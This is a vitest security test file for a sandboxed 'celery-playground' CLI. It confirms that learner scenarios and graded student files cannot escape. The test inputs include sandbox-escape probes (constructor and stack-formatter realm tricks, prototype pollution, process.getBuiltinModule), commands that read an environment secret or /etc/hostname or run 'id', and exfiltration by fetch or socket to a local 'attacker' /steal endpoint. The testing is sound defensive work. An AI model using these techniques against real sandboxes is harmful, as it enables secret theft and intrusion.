/**
 * The CLI contains the scenario (issue 16, item 6): each attack a security review ran through
 * `run` / `check --file`, reproduced as a learner would write it, and shown blocked. The CLI is
 * spawned as a user runs it, with a secret in its environment that must never come out.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { spawn, spawnSync } from "node:child_process";
import { createServer, type Server } from "node:http";
import { existsSync, mkdtempSync, writeFileSync } from "node:fs";
import { hostname, tmpdir } from "node:os";
import { join } from "node:path";
import type { AddressInfo } from "node:net";

const root = join(import.meta.dirname, "..");
const dir = mkdtempSync(join(tmpdir(), "cp-sandbox-"));
const SECRET = "s3cret-" + Math.random().toString(36).slice(2);
const HOSTNAME = hostname();

function cli(...args: string[]) {
  return cliWithin(90_000, ...args);
}
function cliWithin(timeoutMs: number, ...args: string[]) {
  const t0 = Date.now();
  const r = spawnSync(process.execPath, [join(root, "bin", "celery-playground.mjs"), ...args], {
    cwd: root,
    encoding: "utf8",
    timeout: timeoutMs,
    env: { ...process.env, CP_TEST_SECRET: SECRET },
  });
  return { code: r.status, out: r.stdout, err: r.stderr, ms: Date.now() - t0 };
}
/** The CLI run asynchronously (the attacker server below must answer while it runs). */
function cliAsync(...args: string[]): Promise<{ code: number | null; out: string; err: string }> {
  return new Promise((resolve) => {
    const c = spawn(process.execPath, [join(root, "bin", "celery-playground.mjs"), ...args], { cwd: root, env: { ...process.env, CP_TEST_SECRET: SECRET } });
    let out = "";
    let err = "";
    c.stdout.on("data", (d: Buffer) => (out += d));
    c.stderr.on("data", (d: Buffer) => (err += d));
    c.on("close", (code) => resolve({ code, out, err }));
  });
}
function file(name: string, text: string) {
  const p = join(dir, name);
  writeFileSync(p, text);
  return p;
}
/** Nothing secret in what the CLI printed. */
function leaksNothing(r: { out: string; err: string }) {
  const all = r.out + r.err;
  expect(all).not.toContain(SECRET);
  expect(all).not.toMatch(/uid=\d+/); // `id`'s output
  if (HOSTNAME.length >= 4) expect(all).not.toContain(HOSTNAME);
}
const APP = `import { Celery } from "celery";\nconst app = new Celery("x", { broker: "redis" });\n`;
/**
 * What starting the CLI and a trivial run costs right now (the machine may be shared): a hang's
 * "within 5 s" is measured beyond that, so a loaded machine does not fail the bound.
 */
function startupMs(): number {
  return cli("run", file("trivial.ts", `export default async function main() { return 1; }\n`)).ms;
}
const SANDBOX_MSG = /^Stopped: the scenario used `(\w+)`, which a scenario cannot reach: it runs in a sandbox with no process, require, file system, child processes or network/m;

describe("a scenario cannot reach Node", () => {
  it("reading a file or an environment variable: require is the scenario's own, process is not there (exit 4)", () => {
    // A module name esbuild cannot see is refused when the scenario runs, not when it compiles.
    const viaRequire = cli("run", file("read-require.ts", `${APP}const fs = require(["f", "s"].join(""));\nexport default async function main() { console.log(fs.readFileSync("/etc/hostname", "utf8")); }\n`));
    expect(viaRequire.code).toBe(1);
    expect(viaRequire.err).toContain(`Cannot find module 'fs': a scenario can import only "celery"`);
    leaksNothing(viaRequire);

    const env = cli("run", file("read-env.ts", `${APP}export default async function main() { console.log(process.env.CP_TEST_SECRET); }\n`));
    expect(env.code).toBe(4);
    expect(env.err).toMatch(SANDBOX_MSG);
    expect(env.err.match(SANDBOX_MSG)![1]).toBe("process");
    leaksNothing(env);

    // A name it can see does not compile.
    const viaImport = cli("run", file("read-import.ts", `import { readFileSync } from "node:fs";\nexport default async function main() { console.log(readFileSync("/etc/hostname", "utf8")); }\n`));
    expect(viaImport.code).toBe(1);
    expect(viaImport.err).toContain(`Could not resolve "node:fs": a scenario can import only "celery"`);
    leaksNothing(viaImport);
  });

  it("running a command: child_process cannot be loaded, by require or through process (exit 1 / 4)", () => {
    const r = cli("run", file("spawn.ts", `${APP}export default async function main() { const m = "child_process"; console.log(String(require(m).execSync("id"))); }\n`));
    expect(r.code).toBe(1);
    expect(r.err).toContain(`Cannot find module 'child_process'`);
    leaksNothing(r);
    const viaProcess = cli("run", file("spawn2.ts", `${APP}export default async function main() { const cp = process.mainModule.require(["child", "process"].join("_")); console.log(String(cp.execSync("id"))); }\n`));
    expect(viaProcess.code).toBe(4);
    leaksNothing(viaProcess);
  });

  it("writing a file: it does not exist after the run", () => {
    const target = join(dir, "pwned.txt");
    const viaRequire = cli("run", file("write.ts", `${APP}export default async function main() { const fs = "fs"; require(fs).writeFileSync(${JSON.stringify(target)}, "pwned"); }\n`));
    expect(viaRequire.code).toBe(1);
    const viaGlobal = cli("run", file("write2.ts", `${APP}export default async function main() { const g = Function("return this")(); g.process.binding("fs"); }\n`));
    expect(viaGlobal.code).toBe(4);
    expect(existsSync(target)).toBe(false);
  });

  it("process.exit(0) is a clear error with its own exit code, in main() and in a task, not an 'infinite loop'", () => {
    const inMain = cli("run", file("exit.ts", `${APP}export default async function main() { process.exit(0); }\n`));
    expect(inMain.code).toBe(4);
    expect(inMain.err).toMatch(SANDBOX_MSG);
    expect(inMain.err).not.toMatch(/did not yield|infinite loop/);
    const inTask = cli("run", file("exit-task.ts", `${APP}const quit = app.task(function quit() { process.exit(0); });\nexport default async function main() { app.worker({ hostname: "w1" }); await quit.delay().get({ timeout: 5 }); }\n`));
    expect(inTask.code).toBe(4);
    expect(inTask.err.match(SANDBOX_MSG)![1]).toBe("process");
  });

  it("every way out of the realm tried leads back into it: constructors, Function('return this'), stack call sites, import()", () => {
    const probe = file("escape.ts", `${APP}
export default async function main() {
  const same = (F: any) => { try { return F("return globalThis")() === globalThis ? "inside" : "OUTSIDE"; } catch (e) { return "threw " + (e as Error).name; } };
  const out: Record<string, string> = {};
  out.thisCtor = same((globalThis as any).constructor.constructor);
  out.functionThis = Function("return this")() === globalThis ? "inside" : "OUTSIDE";
  out.sloppyThis = (0, eval)("(function () { return this; })()") === globalThis ? "inside" : "OUTSIDE";
  out.consoleCtor = same((console.log as any).constructor);
  out.appCtor = same((app as any).constructor.constructor);
  out.mathCtor = same((Math as any).constructor.constructor);
  out.dateCtor = same((Date as any).constructor);
  out.setTimeoutCtor = same((setTimeout as any).constructor);
  // A stack formatter sees every frame's call site: no function and no receiver of the host's.
  const seen: string[] = [];
  (Error as any).prepareStackTrace = (_e: unknown, sites: any[]) => {
    for (const s of sites) {
      for (const v of [s.getFunction?.(), s.getThis?.()]) if (v && typeof v === "object" || typeof v === "function") seen.push(same(v.constructor.constructor === undefined ? v.constructor : v.constructor.constructor));
    }
    return "";
  };
  void new Error("probe").stack;
  (Error as any).prepareStackTrace = undefined;
  out.callSites = seen.every((s) => s === "inside") ? "inside" : "OUTSIDE " + seen.join(",");
  // Refused with an error of this realm: Node's own refusal was the child's, and its Function ran code outside.
  try { await (0, eval)("import('node:fs')"); out.dynamicImport = "OUTSIDE"; } catch (e) { out.dynamicImport = "threw " + (e as Error).name + (e instanceof Error ? "" : " of the child's realm: " + same((e as any).constructor.constructor)); }
  out.globals = ["process", "Buffer", "setImmediate", "fetch", "WebSocket", "XMLHttpRequest", "global"].filter((n) => Object.getOwnPropertyDescriptor(globalThis, n)?.get === undefined && n in globalThis).join(",") || "none";
  try { new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); out.wasm = "compiled"; } catch (e) { out.wasm = "threw " + (e as Error).name; }
  return out;
}
`);
    const r = cli("run", probe, "--json");
    expect(r.code, r.err).toBe(0);
    const out = JSON.parse(r.out).returned;
    expect(out).toEqual({
      thisCtor: "inside",
      functionThis: "inside",
      sloppyThis: "inside",
      consoleCtor: "inside",
      appCtor: "inside",
      mathCtor: "inside",
      dateCtor: "inside",
      setTimeoutCtor: "inside",
      callSites: "inside",
      dynamicImport: "threw TypeError",
      globals: "none",
      wasm: "threw CompileError",
    });
  });
});

describe("the stack formatter (Node's, in the child's own realm)", () => {
  it("an error thrown from inside it, when a deep stack overflows there, gives no code and no prototype of the child's realm", () => {
    // Node formats every error's `.stack` with a function of the child's realm; a stack that
    // overflows inside it throws that realm's RangeError into the scenario (measured: every run of
    // this probe here caught one). Its Function then ran code outside the context: `process` was
    // the child's. The child now runs with no code generation from strings and frozen intrinsics.
    const probe = file("formatter.ts", `${APP}
let found = "none";
const probe = (e: any) => {
  if (found !== "none" || e instanceof Error || e === null || typeof e !== "object") return;
  found = "foreign";
  try { found += " | code: " + e.constructor.constructor("return typeof process")(); } catch (x: any) { found += " | code: " + (x && x.name); }
  try { const op = Object.getPrototypeOf(Object.getPrototypeOf(Object.getPrototypeOf(e))); op.polluted = 1; found += " | prototype written: " + (op.polluted === 1); } catch (x: any) { found += " | prototype: " + (x && x.name); }
};
export const bomb: any = app.task(function bombFn(n: number): any {
  try { return n === 0 ? 0 : bomb.apply([n - 1]).get(); }
  catch (e: any) { probe(e); try { void new Error("y").stack; } catch (f) { probe(f); } throw e; }
});
export default async function main() { try { bomb.apply([3000]).get(); } catch (e) { probe(e); } return found; }
`);
    const r = cli("run", probe, "--json");
    expect(r.code, r.err).toBe(0);
    expect(JSON.parse(r.out).returned).toMatch(/^(none|foreign \| code: EvalError \| prototype(: TypeError| written: false))$/);
    leaksNothing(r);
  });
  it("stacks are formatted in the context: an error whose name or prototype breaks the formatter throws nothing of the child's realm", () => {
    // A Symbol name and a revoked proxy as prototype made Node's formatter throw TypeErrors of the
    // child's realm, with no deep stack needed; a task's or main()'s such error crashed the run or vanished.
    const r = cli("run", file("names.ts", `${APP}
const outer = (x: any) => !(x instanceof Error) && Object.prototype.toString.call(x) === "[object Error]";
const bad = app.task(function bad() { const e = new Error("x"); (e as any).name = Symbol("s"); throw e; });
export default async function main() {
  const out: string[] = [];
  try { const e = new Error("x"); (e as any).name = Symbol(); out.push(typeof e.stack); } catch (x) { out.push(outer(x) ? "OUTER" : "threw"); }
  try { const p = Proxy.revocable({}, {}); p.revoke(); const e = new Error("x"); Object.setPrototypeOf(e, p.proxy); out.push(typeof e.stack); } catch (x) { out.push(outer(x) ? "OUTER" : "threw"); }
  try { await bad.apply([]).get(); } catch (x) { out.push(outer(x) ? "OUTER" : "apply threw"); }
  app.worker({ hostname: "w1" });
  try { await bad.delay().get({ timeout: 5 }); } catch (x) { out.push(outer(x) ? "OUTER" : "delay threw"); }
  out.push(typeof (globalThis as any).FinalizationRegistry);
  return out.join(",");
}
`), "--json");
    expect(r.code, r.err).toBe(0);
    expect(JSON.parse(r.out).returned).toMatch(/^(string|threw),(string|threw),apply threw,delay threw,undefined$/);
  });

  it("a trap that Node's own code runs (a Proxy on a rejected promise) ends the run as reaching for Node, exit 4, printed escaped", () => {
    const r = cli("run", file("trap.ts", `export default async function main() {
  const p = Promise.reject(new Error("r"));
  Object.setPrototypeOf(p, new Proxy(Promise.prototype, { get(t, k, rcv) { if (typeof k === "symbol") throw new Error("\\x1b[31mtrap"); return Reflect.get(t, k, rcv); } }));
  for (let i = 0; i < 3; i++) await new Promise((res) => setTimeout(res, 50));
  return "survived";
}
`));
    expect(r.code, r.err).toBe(4);
    expect(r.err).toMatch(/a trap that Node's own code ran/);
    expect(r.err + r.out).not.toMatch(/\x1b/);
  });

  it("a promise the scenario leaves rejected does not end the sandbox (it was reported as a crash of the simulator)", () => {
    const r = cli("run", file("unhandled.ts", `export default async function main() { Promise.reject(new Error("left alone")); return 1; }\n`), "--json");
    expect(r.code, r.err).toBe(0);
    expect(JSON.parse(r.out).returned).toBe(1);
  });
});

describe("the watchdog cannot be frozen or fooled", () => {
  it("the old counter is out of reach: a spin that bumps it when it can still ends within 5 s (exit 4: it reached for process)", () => {
    // Against the old worker thread this ran forever: workerData.shared was the watchdog's evidence.
    const r = cliWithin(20_000, "run", file("freeze.ts", `${APP}
const spin = app.task(function spin() {
  let counter: Int32Array | null = null;
  try { counter = new Int32Array((globalThis as any).process.getBuiltinModule("worker_threads").workerData.shared, 0, 2); } catch {}
  try { (globalThis as any).__cp = { tick: () => '{"state":"running"}' }; } catch {}
  for (;;) if (counter) Atomics.add(counter, 0, 1);
});
export default async function main() { app.worker({ hostname: "w1" }); spin.delay(); }
`));
    expect(r.code).toBe(4);
    expect(r.err.match(SANDBOX_MSG)![1]).toBe("process");
    expect(r.ms - startupMs()).toBeLessThan(5_000);
  });

  it("a spin that never reaches for Node, after trying to replace the runner's API, is stopped and named (exit 2)", () => {
    const r = cli("run", file("spin-task.ts", `${APP}
const spin = app.task(function spin() {
  try { (globalThis as any).__cp = { tick: () => '{"state":"running"}' }; } catch {}
  try { Object.defineProperty(globalThis, "__cp", { value: {} }); } catch {}
  while (true) {}
});
export default async function main() { app.worker({ hostname: "w1" }); spin.delay(); }
`));
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/^Stopped: task spin did not yield for 3.5 s/);
    expect(r.ms - startupMs()).toBeLessThan(5_000);
  });

  it("a spin in main() and a blocking Atomics.wait are stopped too (exit 2)", () => {
    const main = cli("run", file("spin-main.ts", `export default async function main() { while (true) {} }\n`));
    expect(main.code).toBe(2);
    expect(main.err).toMatch(/^Stopped: main did not yield/);
    const wait = cli("run", file("wait.ts", `export default async function main() { Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); }\n`));
    expect(wait.code).toBe(2);
    expect(wait.ms - startupMs()).toBeLessThan(5_000);
  });
});

describe("resource limits end a runaway run with exit 3, never an out-of-memory abort", () => {
  const LIMIT_MSG = /^Stopped: resource limit reached: the run used more than (\d+) (trace events|tasks|MB of memory) \((--max-\w+) \d+\)\. .* raise the limit with (--max-\w+)\.$/m;

  it("retrying forever stops at the event limit, quickly", () => {
    const r = cli("run", file("retry.ts", `${APP}const forever = app.task({ bind: true, maxRetries: null }, function forever(self) { throw self.retry({ countdown: 0 }); });
export default async function main() { app.worker({ hostname: "w1", concurrency: 4 }); for (let i = 0; i < 4; i++) forever.delay(); }
`), "--max-events", "200000");
    expect(r.code, r.err).toBe(3);
    const m = r.err.match(LIMIT_MSG)!;
    expect(m.slice(1)).toEqual(["200000", "trace events", "--max-events", "--max-events"]);
    expect(r.ms).toBeLessThan(20_000);
  });

  it("tens of millions of tasks from one synchronous loop stop at the task limit", () => {
    const r = cli("run", file("flood.ts", `${APP}const add = app.task(function add(x: number) { return x; });
export default async function main() { for (let i = 0; i < 50_000_000; i++) add.apply([i]); }
`), "--max-tasks", "20000");
    expect(r.code, r.err).toBe(3);
    expect(r.err.match(LIMIT_MSG)!.slice(1)).toEqual(["20000", "tasks", "--max-tasks", "--max-tasks"]);
  });

  it("memory that grows without events stops at the heap limit, reported as a limit", () => {
    const r = cli("run", file("hog.ts", `export default async function main() { const hog: number[][] = []; for (;;) hog.push(new Array(1e5).fill(hog.length)); }\n`), "--max-memory", "128");
    expect(r.code, r.err).toBe(3);
    expect(r.err.match(LIMIT_MSG)!.slice(1)).toEqual(["128", "MB of memory", "--max-memory", "--max-memory"]);
  });
});

describe("no network", () => {
  let server: Server;
  let hits = 0;
  let port = 0;
  beforeAll(async () => {
    server = createServer((req, res) => {
      hits++;
      res.end("export default 1;");
    });
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
    port = (server.address() as AddressInfo).port;
  });
  afterAll(() => new Promise<void>((r) => server.close(() => r())));

  it("an 'attacker' server on another loopback port receives nothing from fetch, import() or a socket", async () => {
    const url = `http://127.0.0.1:${port}/steal`;
    const attempts = [
      `await fetch(${JSON.stringify(url)} + "?fetch");`,
      `await (0, eval)("import(" + ${JSON.stringify(JSON.stringify(url + "?import"))} + ")");`,
      `const m = "http"; require(m).get(${JSON.stringify(url)} + "?http");`,
      `const m = "net"; require(m).connect(${port}, "127.0.0.1");`,
      `new (globalThis as any).WebSocket("ws://127.0.0.1:${port}/ws");`,
    ];
    const results = await Promise.all(attempts.map((a, i) => cliAsync("run", file(`net${i}.ts`, `${APP}export default async function main() { ${a} }\n`))));
    // Give a late connection time to arrive.
    await new Promise((r) => setTimeout(r, 300));
    expect(hits).toBe(0);
    expect(results.map((r) => r.code)).toEqual([4, 1, 1, 1, 4]);
  });
});

describe("the child itself (the second wall, were the vm context ever left)", () => {
  it("runs under Node's permission model: no file read or write, no child process, no worker thread", async () => {
    const { sandboxNodeArgs } = await import("./sandbox/host");
    const target = join(dir, "child-wrote.txt");
    const probe = `
      const out = {};
      const tryIt = (k, f) => { try { f(); out[k] = "ALLOWED"; } catch (e) { out[k] = e.code || e.name; } };
      tryIt("read", () => require("fs").readFileSync("/etc/hostname"));
      tryIt("write", () => require("fs").writeFileSync(${JSON.stringify(target)}, "x"));
      tryIt("spawn", () => require("child_process").execSync("id"));
      tryIt("worker", () => new (require("worker_threads").Worker)("1", { eval: true }));
      out.env = Object.keys(process.env).length;
      process.stdout.write(JSON.stringify(out));`;
    const r = spawnSync(process.execPath, [...sandboxNodeArgs(256), "-e", probe], { encoding: "utf8", env: {} });
    expect(JSON.parse(r.stdout)).toEqual({ read: "ERR_ACCESS_DENIED", write: "ERR_ACCESS_DENIED", spawn: "ERR_ACCESS_DENIED", worker: "ERR_ACCESS_DENIED", env: 0 });
    expect(existsSync(target)).toBe(false);
  });
});

describe("the sandbox's process does not outlive the CLI", () => {
  it("a CLI killed mid-run (a CI job's timeout) takes its sandbox process with it", async () => {
    const endless = file("endless.ts", `${APP}import { sleep } from "celery";
const t = app.task(async function t() { await sleep(1); });
export const until = 1e12;
export default async function main() { app.worker({ hostname: "w1", concurrency: 8 }); for (;;) await t.delay().get(); }
`);
    const c = spawn(process.execPath, [join(root, "bin", "celery-playground.mjs"), "run", endless, "--max-events", "1000000000"], { cwd: root, stdio: "ignore" });
    const childPid = async (): Promise<number> => {
      for (let i = 0; i < 100; i++) {
        const ps = spawnSync("ps", ["-o", "pid=,args=", "--ppid", String(c.pid)], { encoding: "utf8" }).stdout;
        const line = ps.split("\n").find((l) => l.includes("--experimental-permission"));
        if (line) return Number(line.trim().split(/\s+/)[0]);
        await new Promise((r) => setTimeout(r, 100));
      }
      throw new Error("the sandbox's process never started");
    };
    const pid = await childPid();
    await new Promise((r) => setTimeout(r, 500));
    c.kill("SIGKILL");
    const alive = () => {
      try {
        process.kill(pid, 0);
        return true;
      } catch {
        return false;
      }
    };
    const t0 = Date.now();
    while (alive() && Date.now() - t0 < 3_000) await new Promise((r) => setTimeout(r, 50));
    const stillAlive = alive();
    if (stillAlive) process.kill(pid, "SIGKILL");
    expect(stillAlive).toBe(false);
  });
});

describe("what a scenario prints", () => {
  it("cannot drive the terminal: control characters in its logs, task names and errors are shown escaped", () => {
    const r = cli("run", file("ansi.ts", `${APP}
const t = app.task({ name: "evil\\u001b[2K" }, function t() { return "\\u001b[31mred"; });
export default async function main() {
  app.worker({ hostname: "w1" });
  console.log("\\u001b[2J\\u001b[Hclean screen\\rtasks: 0 sent");
  await t.delay().get({ timeout: 5 });
  throw new Error("boom\\u001b]0;title\\u0007");
}
`));
    expect(r.code).toBe(1);
    expect(r.out + r.err).not.toMatch(/[\u001b\u0007\r]/);
    expect(r.out).toContain("\\u001b[2J\\u001b[Hclean screen\\u000dtasks: 0 sent");
    expect(r.out).toContain("evil\\u001b[2K");
    expect(r.err).toContain("boom\\u001b]0;title\\u0007");
  });
});

describe("sweep runs each point in the same sandbox", () => {
  it("an experiment's scenario that reads the environment or writes a file gets nothing: that run fails, the others run", () => {
    const target = join(dir, "sweep-pwned.txt");
    file("sweep-steal.ts", `import { Celery, params } from "celery";
const app = new Celery("s");
export default async function main() {
  if ((params as any).steal) { const fs = "fs"; try { require(fs).writeFileSync(${JSON.stringify(target)}, "x"); } catch {} return process.env.CP_TEST_SECRET; }
  return 1;
}`);
    const exp = file("sweep-steal.json", JSON.stringify({ name: "steal", scenario: "sweep-steal.ts", parameters: { steal: [false, true] }, seeds: [1] }));
    const r = cli("sweep", exp, "--threads", "2", "--json", "--out", join(dir, "sweep-out"));
    expect(r.code).toBe(1);
    leaksNothing(r);
    const runs = JSON.parse(r.out).runs as { error: string | null; figures: Record<string, number> }[];
    expect(runs[0]!.error).toBeNull();
    expect(runs[0]!.figures.returned).toBe(1);
    expect(runs[1]!.error).toMatch(/the scenario used `process`, which a scenario cannot reach/);
    expect(existsSync(target)).toBe(false);
  });
});

describe("check --file (how a course grades student work in CI) is contained the same way", () => {
  it("a student file that reads the environment and writes a file: exit 4, nothing leaked, nothing written", () => {
    const target = join(dir, "graded-pwned.txt");
    const r = cli("check", "labs/1.3-error-handling", "--file", file("student.ts", `${APP}
export default async function main() {
  // What worked against the old worker thread: Node's own module loader, through process.
  try { (globalThis as any).process.getBuiltinModule("fs").writeFileSync(${JSON.stringify(target)}, String(process.env.CP_TEST_SECRET)); } catch {}
  console.log(process.env.CP_TEST_SECRET);
}
`));
    expect(r.code).toBe(4);
    expect(r.err.match(SANDBOX_MSG)![1]).toBe("process");
    leaksNothing(r);
    expect(existsSync(target)).toBe(false);
  });
});
